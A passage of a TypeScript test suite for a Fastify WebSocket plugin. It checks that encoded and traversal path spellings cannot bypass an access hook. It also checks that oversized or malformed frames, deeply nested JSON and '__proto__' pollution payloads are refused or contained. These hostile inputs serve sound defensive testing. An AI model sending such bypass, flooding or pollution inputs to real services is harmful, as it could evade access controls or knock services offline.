import { once } from 'node:events'
import { readdirSync, readFileSync } from 'node:fs'
import type { Socket } from 'node:net'
import { PassThrough } from 'node:stream'
import websocket from '@fastify/websocket'
import fc from 'fast-check'
import Fastify, { type FastifyInstance, type FastifyServerOptions } from 'fastify'
import t, { type Test } from 'tap'
import ts from 'typescript'
import type { Clock } from '../lib/base/clock.js'
import { createVirtualClock } from '../lib/base/virtual-clock.js'
import type { Writable } from '../lib/hub/delivery/batch.js'
import { Hub } from '../lib/hub/hub.js'
import { TokenBucket } from '../lib/hub/connections/token-bucket.js'
import { resolveOptions } from '../lib/base/options.js'
import { FrameParser, limitInboundFrames } from '../lib/routes/websocket/inbound-limits.js'
import missionControl, { type MissionControlOptions } from '../lib/index.js'
import { CHANNEL_NAMES } from '../schemas/index.js'
import { openAccess } from './support/access.js'
import { boot, closingSoon, uncaught } from './support/app.js'
import { connect } from './support/client.js'
import { parseExposition, valueOf } from './support/exposition-parser.js'
import { closeFrame, exchange, fragments, frame, OPCODE, openTcp, RawClient, upgradeRequest, type RawOptions } from './support/raw-client.js'

const nextTurn = () => new Promise<void>((resolve) => { setImmediate(resolve) })

/** A service whose host has registered a WebSocket server of its own, which has higher limits. */
async function bootWithHostServer (t: Test, options: MissionControlOptions = {}): Promise<FastifyInstance> {
  const app = Fastify()
  t.teardown(() => app.close())
  await app.register(websocket)
  await app.register(missionControl, closingSoon(options))
  return app
}

const metric = async (app: FastifyInstance, name: string, labels?: Record<string, string>): Promise<number> =>
  valueOf(parseExposition((await app.missionControl.metrics.render()).body, 'text'), `mission_control_ws_${name}`, labels)

/** Sends many upgrades at once and returns a client for each. */
async function connectMany (app: FastifyInstance, count: number, options: RawOptions = {}): Promise<RawClient[]> {
  if (!app.server.listening) await app.listen({ port: 0, host: '127.0.0.1', backlog: 4_096 })
  return await Promise.all(Array.from({ length: count }, () => RawClient.connect(app, options)))
}

const statusesOf = (clients: readonly RawClient[]): Record<number, number> => {
  const counts: Record<number, number> = {}
  for (const { status } of clients) counts[status] = (counts[status] ?? 0) + 1
  return counts
}

t.test('no spelling of the path bypasses a hook that refuses', async (t) => {
  const spellings = [
    '/ws/mission-control', '//ws/mission-control', '/ws//mission-control', '/ws/mission-control/', '/ws/./mission-control', '/ws/x/../mission-control',
    '/ws/%2e/mission-control', '/ws/%6dission-control', '/ws%2fmission-control', '/WS/Mission-Control', '/ws/mission-control;x=1', '/ws/mission-control?token=1',
    '/ws/mission-control#x', '/ws/mission-control%00', '/ws/mission-control%20', '/ws/mission-control%3f', '\\ws\\mission-control', 'http://localhost/ws/mission-control',
    '*', '/ws/mission-control/%2e%2e/mission-control', '/health', '/mission-control/ws-metrics', '/api/v1/metrics/prometheus'
  ]
  const lenient: FastifyServerOptions = { routerOptions: { caseSensitive: false, ignoreTrailingSlash: true, ignoreDuplicateSlashes: true, useSemicolonDelimiter: true } as NonNullable<FastifyServerOptions['routerOptions']> }
  for (const [server, settings] of Object.entries({ strict: {}, lenient })) {
    const app = await boot(t, { onRequest: async (_request, reply) => await reply.code(401).send() }, settings)
    const withHostServer = Fastify(settings)
    t.teardown(() => withHostServer.close())
    await withHostServer.register(websocket)
    await withHostServer.register(missionControl, { onRequest: async (_request, reply) => await reply.code(401).send() })
    for (const [title, one] of [[`a ${server} router`, app], [`a ${server} router and the host's WebSocket server`, withHostServer]] as const) {
      for (const path of spellings) {
        const answer = await exchange(one, upgradeRequest({ path, headers: [] }))
        t.match(answer, /^HTTP\/1\.1 4\d\d /, `${path} with ${title}`)
        t.notMatch(answer, /101/)
      }
      t.equal(one.missionControl.wsMetrics().connectionsTotal, 0)
    }
  }
})

t.test('an upgrade with a broken handshake opens no connection and occupies none', async (t) => {
  for (const make of [boot, bootWithHostServer]) {
    const app = await make(t)
    const good = upgradeRequest()
    const broken = [
      good.replace('GET', 'POST'), good.replace('GET', 'HEAD'), good.replace('GET', 'OPTIONS'), good.replace('Version: 13', 'Version: 12'),
      good.replace(/Sec-WebSocket-Key: .*\r\n/, ''), good.replace(/Key: .*/, 'Key: short'), good.replace('Upgrade: websocket', 'Upgrade: h2c'),
      good.replace('Upgrade: websocket', 'Upgrade: websocket, h2c')
    ]
    for (const request of broken) t.notMatch(await exchange(app, request), /^HTTP\/1\.[01] 101/, JSON.stringify(request))
    t.equal(app.missionControl.wsMetrics().connectionsTotal, 0)
    t.equal((await RawClient.connect(app, { headers: ['Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits'] })).head.includes('Extensions'), false, 'compression is not negotiated')
  }
})

t.test('a hook before the upgrade', async (t) => {
  t.test('denies access when it throws, rejects, passes an error to its callback or sends a response', async (t) => {
    const hooks: Record<string, [MissionControlOptions['onRequest'], RegExp]> = {
      throws: [() => { throw new Error('canary') }, / 500 /],
      rejects: [async () => { throw Object.assign(new Error('no'), { statusCode: 403 }) }, / 403 /],
      'rejects with undefined': [async () => await Promise.reject(undefined), / 500 /], // eslint-disable-line prefer-promise-reject-errors -- a host may do this
      'passes an error to its callback': [(_request, _reply, done) => done(Object.assign(new Error('no'), { statusCode: 401 })), / 401 /],
      'sends a response': [(_request, reply) => { reply.code(401).send({ error: 'no' }) }, / 401 /],
      'sends a response asynchronously': [async (_request, reply) => await reply.code(401).send({ error: 'no' }), / 401 /],
      redirects: [async (_request, reply) => await reply.redirect('/login'), / 302 /],
      'is the second of two': [[async () => {}, async (_request, reply) => await reply.code(403).send()], / 403 /]
    }
    for (const [title, [onRequest, status]] of Object.entries(hooks)) {
      const app = await boot(t, { onRequest })
      const caught = await uncaught(async () => {
        const early = frame(OPCODE.text, '{"type":"ping"}')
        const answer = await exchange(app, Buffer.concat([Buffer.from(upgradeRequest()), early]))
        t.match(answer.split('\r\n', 1)[0], status, title)
      })
      t.same(caught, [], title)
      t.equal(app.missionControl.wsMetrics().connectionsTotal, 0, title)
      t.equal(await metric(app, 'messages_received_total'), 0, `${title}: messages sent with the upgrade are never read`)
    }
  })

  t.test('delays no other client while it is pending; messages sent meanwhile are kept and then answered', async (t) => {
    let release = () => {}
    const gate = new Promise<void>((resolve) => { release = resolve })
    const app = await boot(t, { onRequest: async (request) => { if (request.headers['x-slow'] !== undefined) await gate } })
    const slow: Socket[] = []
    for (let at = 0; at < 200; at++) {
      const socket = await openTcp(app)
      socket.write(upgradeRequest({ headers: ['X-Slow: 1'] }) + frame(OPCODE.text, '{"type":"subscribe","channels":["mission_update"],"id":"early 0"}').toString('latin1'), 'latin1')
      slow.push(socket)
    }
    const pings = Array.from({ length: 20 }, (_, at) => frame(OPCODE.text, JSON.stringify({ type: 'ping', id: `early ${at + 1}` })))
    for (const ping of pings) slow[0]!.write(ping)
    const other = await connect(app)
    t.same((await other.settle()).length, 0, 'other clients are served')
    t.equal(app.missionControl.wsMetrics().connectionsTotal, 1)
    t.equal(await metric(app, 'messages_received_total'), 1, 'no message is read before the hook has ended')
    t.equal(app.missionControl.wsMetrics().subscriptionsTotal, 0)

    release()
    const clients = await Promise.all(slow.map((socket) => RawClient.over(socket)))
    t.same(statusesOf(clients), { 101: 200 })
    for (const client of clients) t.equal((await client.next('subscription_ack'))['replyTo'], 'early 0')
    for (let at = 1; at <= 20; at++) t.equal((await clients[0]!.next('pong'))['replyTo'], `early ${at}`, 'in the order they were sent')
    t.equal(app.missionControl.wsMetrics().subscriptionsTotal, 200)
  })

  t.test('that never ends does not delay the close of the service', { timeout: 20_000 }, async (t) => {
    for (const make of [boot, bootWithHostServer]) {
      let started = () => {}
      const hasStarted = new Promise<void>((resolve) => { started = resolve })
      const app = await make(t, {
        onRequest: async (request) => {
          if (request.headers['x-slow'] === undefined) return
          started()
          await new Promise(() => {})
        }
      })
      const live = await connect(app)
      const hanging = await openTcp(app)
      hanging.write(upgradeRequest({ headers: ['X-Slow: 1'] }))
      await hasStarted
      await app.close()
      t.same(await live.closed, { code: 1012, reason: 'server_restart' })
      hanging.destroy()
    }
  })
})

t.test('the limit on connections', async (t) => {
  t.test('is exact when 1,000 clients connect at once: the others receive 503, and a closed connection frees its slot', async (t) => {
    const app = await boot(t, { websocket: { maxConnections: 100 } })
    const clients = await connectMany(app, 1_000)
    t.same(statusesOf(clients), { 101: 100, 503: 900 })
    t.match(app.missionControl.wsMetrics(), { connectionsOpen: 100, connectionsTotal: 100 })
    t.equal(await metric(app, 'refused_total', { reason: 'connections' }), 900)

    const open = clients.filter(({ status }) => status === 101)
    for (const client of open.slice(0, 40)) client.socket.destroy()
    for (const client of open.slice(40, 60)) client.write(closeFrame(1000))
    while (app.missionControl.wsMetrics().connectionsOpen > 40) await nextTurn()
    t.same(statusesOf(await connectMany(app, 100)), { 101: 60, 503: 40 })
    t.match(app.missionControl.wsMetrics(), { connectionsOpen: 100, connectionsTotal: 160 })
  })

  t.test('includes upgrades that wait in a hook, and is exact when their hooks end at the same time', async (t) => {
    for (const make of [boot, bootWithHostServer]) {
      let waiting = 0
      let release = () => {}
      const gate = new Promise<void>((resolve) => { release = resolve })
      const app = await make(t, {
        websocket: { maxConnections: 3 },
        onRequest: async () => {
          waiting++
          await gate
        }
      })
      const clients = connectMany(app, 50)
      while (await metric(app, 'refused_total', { reason: 'connections' }) < 47) await nextTurn()
      t.equal(waiting, 3, 'the others reach no hook of the host')
      release()
      t.same(statusesOf(await clients), { 101: 3, 503: 47 })
      t.match(app.missionControl.wsMetrics(), { connectionsOpen: 3, connectionsTotal: 3 })
    }
  })

  t.test('does not count refused upgrades and broken handshakes', async (t) => {
    const app = await boot(t, { websocket: { maxConnections: 2 } })
    for (let round = 0; round < 3; round++) {
      await exchange(app, upgradeRequest({ headers: ['Origin: http://evil.example'] }))
      await exchange(app, upgradeRequest().replace('Version: 13', 'Version: 1'))
    }
    t.same(statusesOf(await connectMany(app, 3)), { 101: 2, 503: 1 })
  })
})

t.test('slow handshakes do not disturb other clients, and end with 408', async (t) => {
  const app = await boot(t, {}, { http: { headersTimeout: 300, connectionsCheckingInterval: 50 } } as FastifyServerOptions)
  await app.listen({ port: 0, host: '127.0.0.1', backlog: 4_096 })
  const slow = await Promise.all(Array.from({ length: 300 }, async () => {
    const socket = await openTcp(app)
    socket.write(upgradeRequest().slice(0, 60))
    return socket
  }))
  const client = await connect(app)
  await client.subscribe('mission_update')
  app.missions.start('job')
  t.equal((await client.next('mission_update')).payload.name, 'job')
  t.equal(app.missionControl.wsMetrics().connectionsTotal, 1)
  for (const socket of slow) {
    let answer = ''
    for await (const chunk of socket) answer += String(chunk)
    if (!answer.startsWith('HTTP/1.1 408 ')) t.fail(`answered ${answer}`)
  }
  t.same(await client.settle(), [])
})

t.test('a peer', async (t) => {
  t.test('that does not answer a ping is disconnected, unless it sends something else', async (t) => {
    const clock = createVirtualClock()
    const app = await boot(t, { clock })
    const mute = await RawClient.connect(app, { isMute: true })
    const talking = await RawClient.connect(app, { isMute: true })
    const polite = await connect(app)
    await mute.send({ type: 'subscribe', channels: ['mission_update'] }).next('subscription_ack')
    clock.advance(30_000)
    await mute.nextFrame(OPCODE.ping)
    await talking.send({ type: 'ping' }).next('pong')
    await polite.settle()
    t.equal(app.missionControl.wsMetrics().connectionsOpen, 3)
    for (let step = 0; step < 6; step++) {
      clock.advance(5_000)
      await polite.settle()
    }
    t.same(await mute.ended, { code: undefined, reason: '' })
    await talking.send({ type: 'ping' }).next('pong')
    await polite.settle()
    t.equal(app.missionControl.wsMetrics().connectionsOpen, 2)
    t.equal(app.missionControl.wsMetrics().channels.find(({ channel }) => channel === 'mission_update')!.count, 0)
    talking.socket.destroy()
  })

  t.test('that ends or resets its side of the connection frees its slot at once', async (t) => {
    const app = await boot(t)
    const ends: Array<(client: RawClient) => void> = [
      ({ socket }) => { socket.end() },
      ({ socket }) => { socket.resetAndDestroy() },
      ({ socket }) => { socket.write(frame(OPCODE.text, 'x'.repeat(100)).subarray(0, 20)); socket.end() }
    ]
    for (const end of ends) {
      const client = await RawClient.connect(app)
      await client.send({ type: 'subscribe', channels: ['mission_update'] }).next('subscription_ack')
      end(client)
      await client.ended
      while (app.missionControl.wsMetrics().connectionsOpen > 0) await nextTurn()
      app.missions.start('job')
      t.equal(app.missionControl.wsMetrics().channels.find(({ channel }) => channel === 'mission_update')!.count, 0)
    }
  })

  t.test('that does not close the connection after our close frame is terminated soon', { timeout: 20_000 }, async (t) => {
    for (const make of [boot, bootWithHostServer]) {
      const clock = createVirtualClock()
      const app = await make(t, { clock })
      const witness = await connect(app)
      await witness.subscribe('mission_update')
      const flooding = await RawClient.connect(app, { isMute: true })
      const broken = await RawClient.connect(app, { isMute: true })
      for (const client of [flooding, broken]) await client.send({ type: 'subscribe', channels: ['mission_update'] }).next('subscription_ack')
      flooding.write(...Array.from({ length: 101 }, () => frame(OPCODE.text, '{"type":"ping"}')))
      t.equal((await flooding.nextFrame(OPCODE.close)).readUInt16BE(), 1008)
      broken.write(frame(OPCODE.text, '{}', { isMasked: false }))
      t.equal((await broken.nextFrame(OPCODE.close)).readUInt16BE(), 1002)
      const sent = app.missionControl.wsMetrics().messagesSentTotal
      for (const client of [flooding, broken]) client.send({ type: 'ping' }).write(frame(3))
      app.missions.start('job')
      await witness.settle()
      t.equal(app.missionControl.wsMetrics().messagesSentTotal, sent + 2, 'they receive no more replies and no more updates')
      t.same([await metric(app, 'closed_total', { reason: 'rate_limited' }), await metric(app, 'closed_total', { reason: 'invalid_frame' })], [1, 1], 'each is counted once')
      clock.advance(2_000)
      await Promise.all([flooding.ended, broken.ended])
      await witness.settle()
      t.equal(app.missionControl.wsMetrics().connectionsOpen, 1)
    }
  })
})

const BROKEN_FRAME = { code: 1002, reason: 'invalid_frame' }
const TOO_LARGE = { code: 1009, reason: 'message_too_large' }
const TOO_MANY_FRAGMENTS = { code: 1008, reason: 'too_many_fragments' }
const NO_UTF8 = { code: 1007, reason: 'invalid_utf8' }

const PING = '{"type":"ping"}'
const LIMIT = 16_384
const text = (payload: string | Buffer, options = {}) => frame(OPCODE.text, payload, options)
const parts = (count: number, part: string | Buffer = '') => [PING, ...Array.from({ length: count - 1 }, () => part)]

/** Frames that a client sends, with the close code that follows and the reason under which it is counted. */
const abuses: Array<[string, Buffer[], { code: number, reason: string }]> = [
  ['a message of 10 MB', [text(Buffer.alloc(10_000_000, 'x'))], TOO_LARGE],
  ['a message one byte above the limit', [text(' '.repeat(LIMIT + 1))], TOO_LARGE],
  ['fragments one byte above the limit', fragments(OPCODE.text, [' '.repeat(LIMIT), ' ']), TOO_LARGE],
  ['a length of 2^53', [text('', { length: 2 ** 53 })], TOO_LARGE],
  ['257 fragments', fragments(OPCODE.text, parts(257)), TOO_MANY_FRAGMENTS],
  ['10,000 empty fragments', fragments(OPCODE.text, parts(10_000)), TOO_MANY_FRAGMENTS],
  ['an unmasked frame', [text(PING, { isMasked: false })], BROKEN_FRAME],
  ...[1, 2, 4, 7].map((reservedBits): [string, Buffer[], typeof BROKEN_FRAME] => [`reserved bits ${reservedBits}`, [text(PING, { reservedBits })], BROKEN_FRAME]),
  ...[3, 4, 5, 6, 7, 11, 12, 13, 14, 15].map((opcode): [string, Buffer[], typeof BROKEN_FRAME] => [`opcode ${opcode}`, [frame(opcode, PING)], BROKEN_FRAME]),
  ['a ping of 126 bytes', [frame(OPCODE.ping, Buffer.alloc(126))], BROKEN_FRAME],
  ['a ping in two fragments', [frame(OPCODE.ping, '', { isFinal: false })], BROKEN_FRAME],
  ['a continuation without a message', [frame(OPCODE.continuation, PING)], BROKEN_FRAME],
  ['a message between the fragments of another', [text('{', { isFinal: false }), text(PING)], BROKEN_FRAME],
  ...[0, 999, 1004, 1005, 1006, 1015, 2999, 5000, 65_535].map((code): [string, Buffer[], typeof BROKEN_FRAME] => [`close code ${code}`, [closeFrame(code)], BROKEN_FRAME]),
  ['a close frame of one byte', [frame(OPCODE.close, 'x')], BROKEN_FRAME],
  ['a close reason that is not UTF-8', [closeFrame(1000, Buffer.from([0xff]))], NO_UTF8],
  ['text that is not UTF-8', [text(Buffer.from([0x22, 0xc3, 0x28, 0x22]))], NO_UTF8],
  ['text with an encoded surrogate', [text(Buffer.from([0xed, 0xa0, 0x80]))], NO_UTF8],
  ['fragments that are invalid UTF-8 only when joined', fragments(OPCODE.text, [Buffer.from([0x22, 0xe2, 0x82]), Buffer.from([0x22])]), NO_UTF8]
]

for (const [where, make] of [['', boot], [', on a WebSocket server of the host that allows 100 MiB too', bootWithHostServer]] as const) {
  t.test(`a client that breaks a frame rule is closed with the matching code, and other clients are not affected${where}`, async (t) => {
    const app = await make(t)
    const witness = await connect(app)
    await witness.subscribe('mission_update')
    const caught = await uncaught(async () => {
      for (const [title, frames, { code, reason }] of abuses) {
        const before = await metric(app, 'closed_total', { reason })
        const client = await RawClient.connect(app)
        t.equal((await client.write(...frames).ended).code, code, title)
        t.equal(await metric(app, 'closed_total', { reason }), before + 1, `${title} counts once`)
        t.same(client.types, [], 'no message is carried out')
        t.same(await witness.settle(), [], title)
      }
    })
    t.same(caught, [])
    while (app.missionControl.wsMetrics().connectionsOpen > 1) await nextTurn()
    app.missions.start('job')
    t.equal((await witness.next('mission_update')).payload.name, 'job')
  })
}

t.test('a client that stays just within the limits is served', async (t) => {
  for (const make of [boot, bootWithHostServer]) {
    const app = await make(t)
    const euro = Buffer.from('{"type":"ping","id":"€"}')
    const cut = euro.indexOf('€') + 1
    const allowed: Record<string, Buffer[]> = {
      'a message of exactly the limit': [text(PING.padEnd(LIMIT))],
      'fragments of exactly the limit': fragments(OPCODE.text, [PING, ' '.repeat(LIMIT - PING.length)]),
      '256 fragments': fragments(OPCODE.text, parts(256)),
      'one fragment per byte': fragments(OPCODE.text, [...PING]),
      'one packet per byte': [],
      'a character split across two fragments': fragments(OPCODE.text, [euro.subarray(0, cut), euro.subarray(cut)]),
      'pings between the fragments of a message': fragments(OPCODE.text, [...PING]).flatMap((one) => [one, frame(OPCODE.ping, 'p')]),
      'an unsolicited pong': [frame(OPCODE.pong, 'p'), text(PING)],
      'a ping of 125 bytes': [frame(OPCODE.ping, Buffer.alloc(125)), text(PING)],
      'a binary message': [frame(OPCODE.binary, PING)]
    }
    for (const [title, frames] of Object.entries(allowed)) {
      const client = await RawClient.connect(app)
      client.write(...frames)
      if (title === 'one packet per byte') {
        for (const byte of text(PING)) {
          client.socket.write(Buffer.from([byte]))
          await nextTurn()
        }
      }
      t.equal((await client.next('pong'))['type'], 'pong', title)
      t.equal((await client.write(closeFrame(1000)).ended).code, 1000)
    }
  }
})

t.test('on a WebSocket server of the host that allows 100 MiB', async (t) => {
  t.test('the inbound limits of the plugin apply, even to a message that never ends', async (t) => {
    const app = await bootWithHostServer(t, { websocket: { maxMessagesPerSecond: 100_000 } })
    const witness = await connect(app)
    await witness.settle()
    const half = (bytes: number) => text(Buffer.alloc(bytes, 'x'), { isFinal: false })
    const more = (bytes: number) => frame(OPCODE.continuation, Buffer.alloc(bytes, 'x'), { isFinal: false })
    const endless = Array.from({ length: 100 }, () => more(8_192))
    const large: Record<string, Buffer[]> = {
      'only the frame header of 100 MB': [text('', { length: 100_000_000 })],
      'the frame header of 100 MB and a part of the payload': [text(Buffer.alloc(1_000_000), { length: 100_000_000 })],
      'endless fragments': [half(8_192), ...endless],
      'endless fragments with pings between them': [half(8_192), ...endless.flatMap((one) => [one, frame(OPCODE.ping, 'x'.repeat(125))])],
      'endless fragments with pongs between them': [half(8_192), ...endless.flatMap((one) => [one, frame(OPCODE.pong, '')])],
      'endless fragments after many small messages': [...Array.from({ length: 2_000 }, () => text(PING)), half(8_192), ...endless]
    }
    for (const [title, frames] of Object.entries(large)) {
      const client = await RawClient.connect(app)
      for (const one of frames) client.write(one)
      t.same(await client.ended, { code: 1009, reason: 'message_too_large' }, title)
      t.same(await witness.settle(), [])
    }
    t.equal(await metric(app, 'closed_total', { reason: 'message_too_large' }), Object.keys(large).length)
  })

  t.test('many small messages in few packets do not count as a large one, nor do many pings', async (t) => {
    const app = await bootWithHostServer(t, { websocket: { maxMessagesPerSecond: 100_000 } })
    const client = await RawClient.connect(app)
    for (let round = 0; round < 3; round++) {
      client.write(...Array.from({ length: 10_000 }, () => text('x')), text(JSON.stringify({ type: 'ping', id: `round ${round}` })))
      t.equal((await client.next('pong'))['replyTo'], `round ${round}`)
    }
    for (let round = 0; round < 100; round++) {
      client.write(...Array.from({ length: 50 }, (_, at) => frame(at % 2 === 0 ? OPCODE.ping : OPCODE.pong, 'x'.repeat(125))))
      for (let at = 0; at < 25; at++) await client.nextFrame(OPCODE.pong)
    }
    await client.write(text(PING)).next('pong')
    t.equal(app.missionControl.wsMetrics().connectionsOpen, 1)
  })

  t.test('a message that is too large only after decompression is refused too', async (t) => {
    const app = Fastify()
    t.teardown(() => app.close())
    await app.register(websocket, { options: { perMessageDeflate: { threshold: 0 } } })
    await app.register(missionControl)
    const client = await connect(app, { perMessageDeflate: { threshold: 0 } })
    t.equal(client.socket.extensions, 'permessage-deflate')
    t.ok(await client.send({ type: 'ping' }).next('pong'))
    client.send(' '.repeat(1_000_000))
    t.same(await client.closed, { code: 1009, reason: 'message_too_large' })
  })

  t.test('chunks that exceed a limit never reach ws, which would keep every fragment', async (t) => {
    const stream = new PassThrough()
    const read: number[] = []
    const exceeded: string[] = []
    const reader = (chunk: Buffer) => { read.push(chunk.length) }
    stream.on('data', reader)
    limitInboundFrames(stream, { maxBytes: LIMIT, maxFragments: 256 }, (limit) => exceeded.push(limit))
    const chunks = [Buffer.concat(fragments(OPCODE.text, parts(256))), Buffer.concat(fragments(OPCODE.text, parts(9_000))), text(PING)]
    for (const chunk of chunks) {
      stream.write(chunk)
      await nextTurn()
    }
    t.same(read, [chunks[0]!.length])
    t.same(exceeded, ['too_many_fragments'])
    stream.off('data', reader)
    t.equal(stream.listenerCount('data'), 1, 'ws can still remove its own listener')
  })

  t.test('a WebSocket injected by the tests of the host is served too', async (t) => {
    const app = await bootWithHostServer(t)
    await app.ready()
    const socket = await app.injectWS('/ws/mission-control')
    socket.send(PING)
    const [data] = await once(socket, 'message')
    t.equal(JSON.parse(String(data)).type, 'pong')
    socket.terminate()
  })

  t.test('frames are parsed from chunks of any size', async () => {
    const limits = { maxBytes: 100_000, maxFragments: 4 }
    const bytes = fc.oneof(fc.integer({ min: 0, max: 125 }), fc.integer({ min: 126, max: 700 }), fc.integer({ min: 65_500, max: 66_000 }))
    const part = fc.record({ opcode: fc.constantFrom(OPCODE.ping, OPCODE.pong, OPCODE.text, OPCODE.text, OPCODE.text), bytes, isMasked: fc.boolean(), isFinal: fc.boolean() })
    fc.assert(fc.property(fc.array(part, { maxLength: 12 }), fc.array(fc.oneof(fc.integer({ min: 1, max: 40 }), fc.integer({ min: 1, max: 70_000 })), { minLength: 1 }), (sent, sizes) => {
      const expected: string[] = []
      let [bytes, count] = [0, 0]
      for (const one of sent) {
        if (one.opcode >= OPCODE.close) continue
        bytes += one.bytes
        count++
        if (bytes > limits.maxBytes) expected.push('message_too_large')
        else if (count > limits.maxFragments) expected.push('too_many_fragments')
        if (expected.length > 0) break
        if (one.isFinal) [bytes, count] = [0, 0]
      }
      const stream = Buffer.concat(sent.map((one) => frame(one.opcode, Buffer.alloc(one.bytes), one)))
      const frames = new FrameParser(limits)
      let found: string | undefined
      for (let at = 0, turn = 0; at < stream.length && found === undefined; turn++) {
        const size = sizes[turn % sizes.length]!
        found = frames.parse(stream.subarray(at, at + size))
        at += size
      }
      return found === expected[0]
    }))
  })

  t.test('no other route of the plugin accepts an upgrade', async (t) => {
    for (const make of [boot, bootWithHostServer]) {
      const app = await make(t)
      for (const path of ['/health', '/health?probe=live', '/mission-control/ws-metrics', '/api/v1/metrics/prometheus']) {
        t.match(await exchange(app, upgradeRequest({ path })), /^HTTP\/1\.1 400 (?!.*101 Switching)/s, path)
      }
      t.equal(app.missionControl.wsMetrics().connectionsTotal, 0)
    }
  })
})

t.test('a JSON message of a client', async (t) => {
  t.test('with 1,000, 16,000 or 200,000 levels is answered with a short error, and the connection stays open', async (t) => {
    const app = await boot(t, { websocket: { maxPayloadBytes: 2_000_000 } })
    const client = await RawClient.connect(app)
    for (const levels of [1_000, 16_000, 200_000]) {
      const lists = '['.repeat(levels) + ']'.repeat(levels)
      const objects = '{"a":'.repeat(levels) + '1' + '}'.repeat(levels)
      const messages = [
        lists, objects, `{"type":${lists}}`, `{"type":"ping","id":${objects}}`, `{"type":"ping","x":${lists}}`, `{"type":"subscribe","channels":${lists}}`,
        `{"type":"subscribe","channels":[${objects}]}`, `{"type":"mission_start","command":${objects}}`
      ]
      for (const message of messages) {
        const { error } = await client.send(message).next('protocol_error')
        t.equal(error.code, 'invalid_message', `${levels} levels: ${message.slice(0, 40)}`)
        t.ok(JSON.stringify(error).length < 400)
      }
      t.equal((await client.send('['.repeat(levels)).next('protocol_error'))['error'].code, 'invalid_json')
    }
    t.ok(await client.send({ type: 'ping' }).next('pong'))
  })

  t.test('pollutes no prototype: 10,000 messages with unusual keys', async (t) => {
    const app = await boot(t, { websocket: { maxMessagesPerSecond: 100_000, maxPayloadBytes: 65_536 } })
    const client = await RawClient.connect(app)
    const before = Object.getOwnPropertyNames(Object.prototype)
    const key = fc.constantFrom('type', 'id', 'channels', 'command', 'missionId', '__proto__', 'constructor', 'prototype', 'polluted', 'toString', 'hasOwnProperty', 'then', 'toJSON', 'length', '')
    const type = fc.constantFrom('ping', 'subscribe', 'unsubscribe', 'whoami', 'mission_start', 'mission_cancel', '__proto__', 'constructor', 'valueOf')
    const value = fc.oneof(
      fc.constantFrom('{"polluted":true}', '{"prototype":{"polluted":true}}', '{"__proto__":{"polluted":true}}', '["__proto__","constructor","mission_update"]', '[[]]', '"__proto__"'),
      fc.json({ maxDepth: 2 }))
    const message = fc.tuple(type, fc.array(fc.tuple(key, value), { maxLength: 4 }))
      .map(([type, pairs]) => `{"type":"${type}"${pairs.map(([key, value]) => `,"${key}":${value}`).join('')}}`)
    const messages = fc.sample(message, { numRuns: 10_000, seed: 42 })
    const caught = await uncaught(async () => {
      for (let at = 0; at < messages.length; at += 500) {
        client.write(...messages.slice(at, at + 500).map((one) => text(one)), text(`{"type":"ping","id":"batch ${at}"}`))
        while ((await client.next('pong'))['replyTo'] !== `batch ${at}`);
      }
    })
    t.same(caught, [])
    t.same(Object.getOwnPropertyNames(Object.prototype), before)
    t.equal(({} as Record<string, unknown>)['polluted'], undefined)
    t.ok(client.received.length > 10_000, 'each message is answered')
    t.same(app.missionControl.wsMetrics().channels.map(({ channel }) => channel), CHANNEL_NAMES)
  })

  t.test('with 60 kB of unknown properties or names is answered with one short error', async (t) => {
    const app = await boot(t, { websocket: { maxPayloadBytes: 65_536 } })
    const client = await RawClient.connect(app)
    const properties = Object.fromEntries(Array.from({ length: 3_300 }, (_, at) => [`canary${at}`, at]))
    const flat = (count: number) => Array.from({ length: count }, (_, at) => `canary${at}`)
    const messages = [{ type: 'ping', ...properties }, properties, { type: properties }, { type: 'subscribe', channels: flat(4_000) }, { type: 'subscribe', channels: ['x'.repeat(60_000)] }]
    for (const message of messages) {
      client.send(message)
      const answer = await client.next('protocol_error', 'subscription_error')
      t.ok(JSON.stringify(answer).length < 1_000)
      t.notMatch(JSON.stringify(answer), /canary|xxx/)
    }
    client.send({ type: 'ping' })
    await client.next('pong')
    t.equal(client.received.length, messages.length + 1)
  })

  t.test('each name of a list costs one reply of at most 400 bytes, so a list gets at most 90 times its bytes', async (t) => {
    const app = await boot(t, { websocket: { maxMessagesPerSecond: 1_000 } })
    for (const type of ['subscribe', 'unsubscribe']) {
      // The shortest list of 64 different names: no message is answered with more.
      const shortest = Array.from({ length: 64 }, (_, at) => String.fromCharCode(48 + at)).map((name) => name === '\\' ? '' : name)
      for (const names of [['x'], Array(64).fill('x'), Array(64).fill(''), Array(64).fill('y'.repeat(200)), Array(64).fill('mission_update'), Array(65).fill('x'), shortest]) {
        const client = await RawClient.connect(app)
        const message = text(JSON.stringify({ type, channels: names }))
        client.write(message)
        await client.send({ type: 'ping' }).next('pong')
        const bytes = client.received.slice(0, -1).reduce((sum, { payload }) => sum + payload.length, 0)
        t.ok(bytes > 0 && bytes <= 400 * new Set(names).size, `${bytes} bytes for ${message.length}`)
        t.ok(bytes <= (names === shortest ? 90 : 10) * message.length, `${bytes} bytes for ${message.length}`)
      }
    }
  })

  t.test('with a lone surrogate is answered with an escape, so that every message is valid UTF-8', async (t) => {
    const app = await boot(t)
    const client = await RawClient.connect(app)
    await client.send({ type: 'subscribe', channels: ['mission_update'] }).next('subscription_ack')
    client.send('{"type":"ping","id":"\\ud800 \\udc00\\ud800"}')
    t.equal((await client.next('pong'))['replyTo'], '\ud800 \udc00\ud800')
    app.missions.start({ name: 'job \udfff' }).planned({ text: '\ud83d' })
    t.equal((await client.next('mission_update'))['payload'].name, 'job \udfff')
    for (const { payload } of client.received) t.ok(Buffer.from(payload.toString()).equals(payload))
    t.match(client.received.find(({ json }) => json?.['type'] === 'pong')!.payload.toString(), '\\ud800')
  })

  t.test('may reuse the id of an earlier one: every reply contains it', async (t) => {
    const app = await boot(t)
    const client = await RawClient.connect(app)
    for (let at = 0; at < 30; at++) client.send({ type: at % 2 === 0 ? 'ping' : 'whoami', id: 'same' })
    for (let at = 0; at < 30; at++) t.equal((await client.next(at % 2 === 0 ? 'pong' : 'whoami'))['replyTo'], 'same')
  })
})

/** A clock that counts the active timers. */
function countTimers (clock: Clock): Clock & { count: number } {
  const counting = {
    ...clock,
    count: 0,
    every (ms: number, run: () => void) {
      counting.count++
      let isOver = false
      const timer = clock.every(ms, run)
      return {
        cancel () {
          if (!isOver) counting.count--
          isOver = true
          timer.cancel()
        }
      }
    }
  }
  return counting
}

t.test('5,000 subscribe and unsubscribe messages leave no timer and no listener behind', async (t) => {
  const clock = createVirtualClock()
  const counting = countTimers(clock)
